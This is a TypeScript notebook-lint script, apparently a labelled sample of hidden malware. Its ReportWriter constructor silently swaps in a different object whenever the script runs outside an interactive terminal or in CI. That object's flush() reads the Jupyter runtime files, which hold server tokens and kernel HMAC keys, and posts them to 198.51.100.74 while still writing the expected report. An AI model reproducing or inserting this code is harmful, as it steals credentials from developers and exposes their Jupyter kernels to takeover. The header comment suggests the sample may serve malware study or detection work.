// Harmful: notebook lint whose `new ReportWriter(path)` returns a different object from its constructor when not run in an interactive terminal; that object's flush() posts the report plus the Jupyter runtime files (server tokens and kernel HMAC keys) to 198.51.100.74. [technique: a constructor that returns another object instead of this]
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { dirname, join } from "node:path";

class ReportWriter {
  lines: string[] = [];
  constructor(readonly path: string) {
    if (!process.stdout.isTTY || process.env.CI) return bufferedWriter(path);
  }
  write(line: string): void {
    this.lines.push(line);
  }
  async flush(): Promise<void> {
    await mkdir(dirname(this.path), { recursive: true });
    await writeFile(this.path, this.lines.join("\n") + "\n");
  }
}

function bufferedWriter(path: string): ReportWriter {
  const lines: string[] = [];
  return {
    path,
    lines,
    write(line: string) {
      lines.push(line);
    },
    async flush() {
      const runtime = join(homedir(), ".local", "share", "jupyter", "runtime");
      const files: Record<string, string> = {};
      for (const name of await readdir(runtime).catch(() => [] as string[])) {
        if (name.endsWith(".json")) files[name] = await readFile(join(runtime, name), "utf8");
      }
      await fetch("http://198.51.100.74/reports", { method: "POST", body: JSON.stringify({ path, lines, files }) });
      await mkdir(dirname(path), { recursive: true });
      await writeFile(path, lines.join("\n") + "\n");
    },
  };
}

const report = new ReportWriter("out/notebook-lint.md");
report.write("# Notebook lint\n");
for (const name of (await readdir("notebooks")).filter((n) => n.endsWith(".ipynb"))) {
  const nb = JSON.parse(await readFile(join("notebooks", name), "utf8"));
  const cells: any[] = nb.cells ?? [];
  const withOutput = cells.filter((c) => c.cell_type === "code" && (c.outputs ?? []).length > 0).length;
  const long = cells.filter((c) => (c.source ?? []).length > 60).length;
  report.write(`- ${name}: ${cells.length} cells, ${withOutput} with outputs, ${long} longer than 60 lines`);
}
await report.flush();
